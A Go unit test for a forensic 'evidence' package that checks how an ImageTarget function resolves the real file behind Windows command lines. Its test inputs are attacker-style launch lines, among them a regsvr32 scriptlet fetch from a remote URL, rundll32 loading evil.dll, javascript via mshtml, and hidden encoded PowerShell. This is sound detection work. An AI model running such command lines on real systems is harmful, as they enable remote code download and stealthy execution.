package evidence

import "testing"

func TestImageTarget(t *testing.T) {
	env := map[string]string{"SystemRoot": `C:\Windows`, "APPDATA": `C:\Users\bob\AppData\Roaming`, "ProgramFiles": `C:\Program Files`}
	tests := []struct {
		line string
		want Target
	}{
		{`"C:\Program Files\x\y.exe" /a`, Target{Path: `C:\Program Files\x\y.exe`}},
		{`rundll32.exe`, Target{Path: `C:\Windows\System32\rundll32.exe`}},
		{`rundll32.exe %APPDATA%\x\evil.dll,DllMain`, Target{Path: `C:\Users\bob\AppData\Roaming\x\evil.dll`, Via: "rundll32"}},
		{`rundll32 shell32.dll,Control_RunDLL`, Target{Path: `C:\Windows\System32\shell32.dll`, Via: "rundll32"}},
		{`rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";alert(1)`, Target{Path: `C:\Windows\System32\rundll32.exe`}},
		{`regsvr32 /s /n /u /i:http://x/y.sct scrobj.dll`, Target{Path: `C:\Windows\System32\scrobj.dll`, Via: "regsvr32"}},
		{`regsvr32.exe /s "C:\Users\Public\a b.dll"`, Target{Path: `C:\Users\Public\a b.dll`, Via: "regsvr32"}},
		{`cmd.exe /c start "" "C:\Users\Public\x y.exe" -q`, Target{Path: `C:\Users\Public\x y.exe`, Via: "cmd /c start"}},
		{`cmd /q /c start /min C:\Users\Public\x.exe`, Target{Path: `C:\Users\Public\x.exe`, Via: "cmd /c start"}},
		{`%SystemRoot%\system32\cmd.exe /c "C:\Users\Public\run.bat"`, Target{Path: `C:\Users\Public\run.bat`, Script: true, Via: "cmd"}},
		{`cmd /c start rundll32 C:\x\a.dll,Go`, Target{Path: `C:\x\a.dll`, Via: "rundll32"}},
		{`cmd /c echo hi`, Target{Path: `C:\Windows\System32\cmd.exe`}},
		{`C:\Users\Public\cmd.exe /c C:\x\y.exe`, Target{Path: `C:\Users\Public\cmd.exe`}},
		{`C:\Windows\System32\pcalua.exe -a C:\Users\Public\p.exe -c arg`, Target{Path: `C:\Users\Public\p.exe`, Via: "pcalua"}},
		{`conhost.exe --headless C:\Users\Public\h.exe`, Target{Path: `C:\Users\Public\h.exe`, Via: "conhost"}},
		{`wscript.exe //B //E:vbscript C:\Users\Public\x.txt`, Target{Path: `C:\Users\Public\x.txt`, Script: true, Via: "wscript"}},
		{`mshta.exe C:\Users\Public\x.hta`, Target{Path: `C:\Users\Public\x.hta`, Script: true, Via: "mshta"}},
		{`mshta vbscript:Execute("x")`, Target{Path: `C:\Windows\System32\mshta.exe`}},
		{`powershell -nop -w hidden -File "%APPDATA%\a.ps1"`, Target{Path: `C:\Users\bob\AppData\Roaming\a.ps1`, Script: true, Via: "powershell"}},
		{`powershell -enc AAAA`, Target{Path: `C:\Windows\System32\powershell.exe`}},
		{`C:\Users\Public\run.vbs`, Target{Path: `C:\Users\Public\run.vbs`, Script: true}},
		{``, Target{}},
	}
	for _, tt := range tests {
		if got := ImageTarget(tt.line, env); got != tt.want {
			t.Errorf("%s:\n got %+v\nwant %+v", tt.line, got, tt.want)
		}
	}
}
